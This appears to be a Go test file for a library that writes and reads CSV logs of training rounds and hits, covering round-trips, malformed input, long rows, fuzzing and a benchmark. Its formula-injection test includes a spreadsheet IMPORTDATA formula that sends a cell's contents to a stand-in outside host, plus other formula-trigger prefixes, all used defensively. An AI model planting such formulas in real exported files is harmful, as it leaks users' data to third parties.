package table

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"melodromos/format/others"
)

func some() Round {
	half, two := 0.5, 2
	return Round{Started: time.Date(2026, 3, 2, 18, 30, 0, 123456000, time.UTC), Person: `Runa "the Quay" O'Dell`,
		Bag: "Bag, long", Kind: "hanging", Drill: "1-2, then 3", Recorded: "keys", Ended: "bell", Zone: "Europe/Lisbon",
		Judged: true, Headline: "=84 % clean", Planned: 60, Hits: 58, Clean: 50, Missed: &two, Longest: 14,
		Share: &half,
		Note:  "Two lines:\nthe second,\twith a tab", RatedWord: "held", RatedBy: "Ásta"}
}

// What is written stands there as another library reads it: quotes, commas, line breaks, letters beyond ASCII, and
// lines that end with CR LF (RFC 4180, 2).
func TestReadByAnother(t *testing.T) {
	var out bytes.Buffer
	w, err := WriteLog(&out)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row(some()); err != nil {
		t.Fatal(err)
	}
	if err := w.Done(); err != nil {
		t.Fatal(err)
	}
	var got struct {
		Data   [][]string
		Errors []any
		Meta   struct{ Linebreak, Delimiter string }
	}
	others.Ask(t, "csv.mjs", out.Bytes(), &got)
	if len(got.Errors) > 0 && len(got.Data) != 3 || got.Meta.Linebreak != "\r\n" || got.Meta.Delimiter != "," {
		t.Fatalf("%+v", got)
	}
	cells := map[string]string{}
	for i, name := range got.Data[0] {
		cells[name] = got.Data[1][i]
	}
	for name, want := range map[string]string{"started": "2026-03-02T18:30:00.123456Z", "person": some().Person,
		"bag": "Bag, long", "note": "Two lines:\r\nthe second,\twith a tab", "missed": "2", "extra": "", "share": "0.5",
		"judged": "yes", "counts": "no", "rated by": "Ásta"} {
		if cells[name] != want {
			t.Errorf("%s: %q, %q expected", name, cells[name], want)
		}
	}
}

// A table that another library wrote, its columns in another order and some left out, is read to the same.
func TestWrittenByAnother(t *testing.T) {
	in, err := json.Marshal([][]string{{"note", "bag", "hits", "started", "person"},
		{some().Note, "Bag, long", "58", "2026-03-02T19:30:00.123456+01:00", some().Person}})
	if err != nil {
		t.Fatal(err)
	}
	var got []Round
	err = ReadLog(bytes.NewReader(append([]byte("\ufeff"), others.Run(t, "csv.mjs", in, "write")...)),
		func(line int, r Round) error {
			got = append(got, r)
			return nil
		})
	want := Round{Started: some().Started, Person: some().Person, Bag: "Bag, long", Hits: 58, Note: some().Note}
	if err != nil || len(got) != 1 || !reflect.DeepEqual(got[0], want) {
		t.Errorf("%+v %v", got, err)
	}
}

// What a spreadsheet would work out stands behind an apostrophe, and comes back without it (OWASP, CSV injection).
func TestFormulas(t *testing.T) {
	at := 1.5
	for _, text := range []string{`=IMPORTDATA("http://example.org/?"&B2)`, "+1", "-2 kg", "@home", "\tx", "\rx", "'=1",
		"''+1", "'", "'x", "Oke", "", "a=b"} {
		var out bytes.Buffer
		w, err := WriteHits(&out)
		if err != nil {
			t.Fatal(err)
		}
		row := Hit{Started: some().Started, Person: text, Bag: "Quay", At: &at, Device: text}
		if err := errors.Join(w.Row(row), w.Done()); err != nil {
			t.Fatal(err)
		}
		cells, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil || strings.ContainsAny(cells[1][1][:min(1, len(cells[1][1]))], "=+-@\t\r") {
			t.Errorf("%q stands there as %q, %v", text, cells, err)
		}
		if err := ReadHits(&out, func(_ int, h Hit) error {
			if text = strings.TrimPrefix(text, "\r"); h.Person != text || h.Device != text {
				t.Errorf("%q came back as %q", text, h.Person)
			}
			return nil
		}); err != nil {
			t.Errorf("%q: %v", text, err)
		}
	}
}

// A row that never ends is refused by its line, before more of it is read than a row may have.
func TestLongRow(t *testing.T) {
	long := strings.Repeat(",", 8*mostRow)
	for text, want := range map[string]string{"started" + long: "line 1: ",
		"started,bag\r\n2026-03-02T18:30:00Z,Quay\r\n2026-03-02T18:30:00Z,\"" + long: "line 3: "} {
		in := strings.NewReader(text)
		err := ReadLog(in, func(int, Round) error { return nil })
		if err == nil || !strings.HasPrefix(err.Error(), want) || !strings.Contains(err.Error(), "256 kB") ||
			in.Len() < 6*mostRow {
			t.Errorf("%v with %d bytes unread, want %s", err, in.Len(), want)
		}
	}
}

func TestThereAndBack(t *testing.T) {
	at, force := -1.25, 300.5
	var out bytes.Buffer
	w, err := WriteHits(&out)
	if err != nil {
		t.Fatal(err)
	}
	list := []Hit{{some().Started, some().Person, "Quay", &at, "lead", &force, nil, "pad", 7},
		{some().Started, "", "Quay", &force, "", nil, &force, "", 0}}
	list[1].Launch = nil
	for _, h := range list {
		if err := w.Row(h); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Done(); err != nil {
		t.Fatal(err)
	}
	var got []Hit
	if err := ReadHits(&out, func(_ int, h Hit) error {
		got = append(got, h)
		return nil
	}); err != nil || !reflect.DeepEqual(got, list) {
		t.Errorf("%+v %v", got, err)
	}
}

func TestRefused(t *testing.T) {
	head := "started,person,bag,hits,judged,ended\r\n"
	for text, says := range map[string]string{
		"":                                      "line 1: expected a first line that names the columns",
		"person,bag\r\n":                        "line 1: expected a column called started",
		"started,person,bag,bag\r\n":            "line 1: the column bag stands twice",
		"started,bag,mood\r\n":                  `line 1: there is no column "mood"`,
		head + ",Runa,Quay,1,yes,bell\r\n":      "line 2: started: missing",
		head + "Monday,Runa,Quay,1,yes,bell":    "line 2: started: expected a time",
		head + "2026-03-02T18:30:00Z,R,Q,-1,,":  "line 2: hits: expected a whole number",
		head + "2026-03-02T18:30:00Z,R,Q,1,1,":  "line 2: judged: expected yes or no",
		head + "2026-03-02T18:30:00Z,R,Q,1,,ko": "line 2: ended: expected one of bell",
		head + "\"2026":                         "line 2: cannot be read",
		head + "2026-03-02T18:30:00Z,\"R\r\nS\",Q,1,,\r\n2026-03-02T18:30:00Z,R,Q\r\n": "line 4: cannot be read",
	} {
		err := ReadLog(strings.NewReader(text), func(int, Round) error { return nil })
		if err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("%q: %v; %q expected", text, err, says)
		}
	}
}

func FuzzReadLog(f *testing.F) {
	f.Add("started,person,bag,hits,judged,ended\r\n2026-03-02T18:30:00Z,\"R\r\nS\",Q,1,yes,bell\r\n")
	f.Fuzz(func(t *testing.T, text string) {
		var first []Round
		if ReadLog(strings.NewReader(text), func(_ int, r Round) error {
			first = append(first, r)
			return nil
		}) != nil {
			return
		}
		var out bytes.Buffer
		w, err := WriteLog(&out)
		for _, r := range first {
			if err == nil {
				err = w.Row(r)
			}
		}
		if err == nil {
			err = w.Done()
		}
		if err != nil {
			t.Fatal(err)
		}
		var second []Round
		if err := ReadLog(&out, func(_ int, r Round) error {
			second = append(second, r)
			return nil
		}); err != nil || !reflect.DeepEqual(first, second) {
			t.Fatalf("%v\n%+v\n%+v", err, first, second)
		}
	})
}

func BenchmarkReadHits(b *testing.B) {
	row := "2026-03-02T18:30:00.123456Z,Runa,Quay,12.345678,lead,300.5,2.75,pad,7\r\n"
	text := "started,person,bag,at,hand,force,launch,device,n\r\n" + strings.Repeat(row, 10_000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		if err := ReadHits(strings.NewReader(text), func(int, Hit) error { return nil }); err != nil {
			b.Fatal(err)
		}
	}
}

func ExampleWriteHits() {
	at := 12.5
	var out strings.Builder
	w, _ := WriteHits(&out)
	_ = w.Row(Hit{Started: some().Started, Person: "Runa", Bag: "Quay", At: &at, Hand: "lead", Device: "pad", N: 1})
	_ = w.Done()
	fmt.Print(strings.ReplaceAll(out.String(), "\r\n", "\n"))
	// Output:
	// started,person,bag,at,hand,force,launch,device,n
	// 2026-03-02T18:30:00.123456Z,Runa,Quay,12.5,lead,,,pad,1
}
